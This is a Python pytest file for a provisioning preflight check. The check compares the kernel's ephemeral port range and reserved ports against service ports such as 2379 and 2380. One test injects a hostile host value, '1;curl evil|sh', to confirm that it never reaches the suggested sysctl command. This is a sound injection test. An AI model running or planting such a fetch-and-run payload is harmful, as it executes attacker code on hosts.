"""Ports that the kernel gives to connections: what the kernel does, and what preflight says."""

from __future__ import annotations

import errno
import os
import shutil
import socket
import subprocess
from pathlib import Path

import pytest

from provision.alike import folded
from provision.host import connection_ports, facts
from provision.host.facts import HostFacts, Probe
from provision.inventory.resolved import Machine
from provision.ssh.session import Result
from tests.unit import hosts

A = Machine("h1", where="inventory.yml:1")
RANGE = "/proc/sys/net/ipv4/ip_local_port_range"
RESERVED = "/proc/sys/net/ipv4/ip_local_reserved_ports"


def host(between: str, reserved: str = "") -> HostFacts:
    return hosts.facts(values={"connection_ports": between, "reserved_ports": reserved})


def said(found: HostFacts, *ports: int) -> list[str]:
    problems = connection_ports.problems({A: found}, {A: Probe(ports=ports)})
    assert {(p.where, p.severity) for p in problems} <= {(A.place, "warning")}
    return [f"{p.what}; {p.remedy}" for p in problems]


@pytest.mark.process
def test_nobody_listens_on_the_port_of_a_connection_that_has_just_ended() -> None:
    """The kernel itself: this is why the ports are looked at."""
    taken = os.strerror(errno.EADDRINUSE)
    with socket.create_server(("127.0.0.1", 0)) as server:
        with socket.create_connection(server.getsockname()) as began:
            its = began.getsockname()
            accepted, _ = server.accept()
            with pytest.raises(OSError, match=taken):
                listen(its)
            began.shutdown(socket.SHUT_WR)
            assert accepted.recv(1) == b""
            accepted.close()
            assert began.recv(1) == b""
        with pytest.raises(OSError, match=taken):
            listen(its)


def listen(address: tuple[str, int]) -> None:
    """As etcd and a JVM do: with SO_REUSEADDR."""
    socket.create_server(address).close()


def test_a_usual_host_says_nothing() -> None:
    assert said(hosts.facts(), 2379, 2380) == []
    assert said(host("32768 60999"), 2379, 2380, 28080, 29999, 30000) == []


def test_a_host_with_a_wider_range() -> None:
    what = "the kernel gives ports 1024 to 65535 to connections: while one has {}, the service of "
    what += "that port cannot start; reserve {} now and in /etc/sysctl.d: sysctl "
    what += "net.ipv4.ip_local_reserved_ports={}; or choose {}"
    both = what.format("2379 or 2380", "them", "2379,2380", "others")
    assert said(host("1024 65535"), 2379, 2380) == [both]
    # Whoever sets the list anew must not lose what is in it.
    one = what.format("2380", "it", "1-4,2379,2380", "another port")
    assert said(host("1024 65535", "1-4,2379"), 2379, 2380) == [one]
    assert said(host("1024 65535", "2379-2380"), 2379, 2380) == []


def test_what_a_host_says_is_no_command() -> None:
    hostile = host("1 65535", "1;curl evil|sh #,22-33\x1b[2J" + "9" * 5000)
    assert all("curl" not in text and len(text) < 8000 for text in said(hostile, 2379))
    assert said(host("1 " + "9" * 5000), 2379) == []


def test_hosts_with_other_ports_are_not_one_line() -> None:
    """The command of one would take what another host has reserved."""

    def shown(*reserved: str) -> list[str]:
        machines = [Machine(f"h{n}", where=f"inventory.yml:{n}") for n in range(len(reserved))]
        facts_ = {m: host("1 65535", r) for m, r in zip(machines, reserved, strict=True)}
        probes = dict.fromkeys(machines, Probe(ports=[2379]))
        return [
            p.where.partition(":")[0] for p in folded(connection_ports.problems(facts_, probes))
        ]

    assert shown(*["80"] * 5) == ["5 hosts"]
    assert len(shown("80", "81", "82", "83", "84")) == 5


@pytest.mark.parametrize(
    ("between", "reserved", "given"),
    [
        ("2379 2379", "", [2379]),
        ("2380 65535", "", [2380]),
        ("1 2379", "", [2379]),
        ("1 65535", "2300-2378,2381", [2379, 2380]),
        ("1 65535", "2380,2379", []),
        ("1 65535", ",", [2379, 2380]),
        ("", "", []),
        ("1", "", []),
        ("a b", "", []),
        ("99999999 1", "", []),
    ],
)
def test_what_the_host_says(between: str, reserved: str, given: list[int]) -> None:
    assert connection_ports.given(host(between, reserved), [2379, 2380, 2379]) == given


@pytest.mark.process
@pytest.mark.parametrize("shell", ["dash", "bash", "busybox sh"])
def test_the_script_says_what_the_kernel_says(shell: str) -> None:
    command = shell.split()
    if shutil.which(command[0]) is None:
        pytest.skip(f"there is no {shell} here")
    script = facts.script(Probe(ports=[1]))
    done = subprocess.run([*command, "-c", script], capture_output=True, check=True)
    values = facts.parse(Result(0, done.stdout.decode(), "", 0.0), "h1").values
    assert values["connection_ports"] == " ".join(Path(RANGE).read_text().split())
    assert values.get("reserved_ports", "") == Path(RESERVED).read_text().strip()
